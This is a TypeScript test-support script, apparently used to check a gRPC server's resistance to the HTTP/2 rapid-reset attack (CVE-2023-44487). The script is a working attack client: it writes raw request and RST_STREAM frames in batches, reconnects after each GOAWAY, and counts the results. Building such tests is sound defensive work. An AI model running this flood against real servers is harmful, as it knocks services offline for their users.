// A rapid-reset client (CVE-2023-44487), run as its own process so that its CPU and event loop are
// not the test's: over raw HTTP/2 frames it opens ConsumeStream calls from offset 0 and resets each
// in the same write as its request, as fast as the server reads, reconnecting whenever the server
// closes the connection. Prints one JSON line of counts when done.
//
//   node --import tsx test/support/rapid-reset-client.ts <port> <durationMs>
import { frame } from "./raw-grpc.ts";
import { FrameType, goawayErrorCode, RawHttp2Connection, request, rstStream } from "./raw-http2.ts";

export interface RapidResetCounts {
  /** Streams opened and reset (written to the socket; those after a GOAWAY are never read). */
  readonly streamsReset: number;
  readonly connections: number;
  /** GOAWAY frames received, by error code. */
  readonly goawaysByCode: Record<string, number>;
}

/** Streams written per write: enough to keep the server's reads full, few enough to notice a close. */
const STREAMS_PER_WRITE = 50;
const CONSUME_FROM_ZERO = frame(new Uint8Array(0));

async function attackOnce(port: number, deadlineMs: number, counts: { streamsReset: number; goawaysByCode: Record<string, number> }): Promise<void> {
  const connection = new RawHttp2Connection(port, (received) => {
    if (received.type !== FrameType.goaway) return;
    const code = String(goawayErrorCode(received));
    counts.goawaysByCode[code] = (counts.goawaysByCode[code] ?? 0) + 1;
  });
  let closed = false;
  void connection.closed.then(() => (closed = true));
  for (let streamId = 1; !closed && performance.now() < deadlineMs && streamId < 2 ** 31 - 2 * STREAMS_PER_WRITE; ) {
    const frames: Buffer[] = [];
    for (let i = 0; i < STREAMS_PER_WRITE; i++, streamId += 2) {
      frames.push(request(streamId, "/log.v1.Log/ConsumeStream", "application/grpc", CONSUME_FROM_ZERO), rstStream(streamId));
    }
    counts.streamsReset += STREAMS_PER_WRITE;
    const flushed = connection.write(Buffer.concat(frames));
    await new Promise<void>((resolve) => {
      if (flushed) {
        setImmediate(resolve);
        return;
      }
      connection.socket.once("drain", resolve);
      void connection.closed.then(resolve);
    });
  }
  await connection.destroy();
}

async function main(): Promise<void> {
  const [port, durationMs] = process.argv.slice(2).map(Number);
  if (!Number.isInteger(port) || !Number.isInteger(durationMs)) throw new Error("usage: rapid-reset-client.ts <port> <durationMs>");
  const deadlineMs = performance.now() + durationMs!;
  const counts = { streamsReset: 0, connections: 0, goawaysByCode: {} as Record<string, number> };
  while (performance.now() < deadlineMs) {
    counts.connections++;
    await attackOnce(port!, deadlineMs, counts);
  }
  const result: RapidResetCounts = counts;
  process.stdout.write(`${JSON.stringify(result)}\n`);
}

await main();
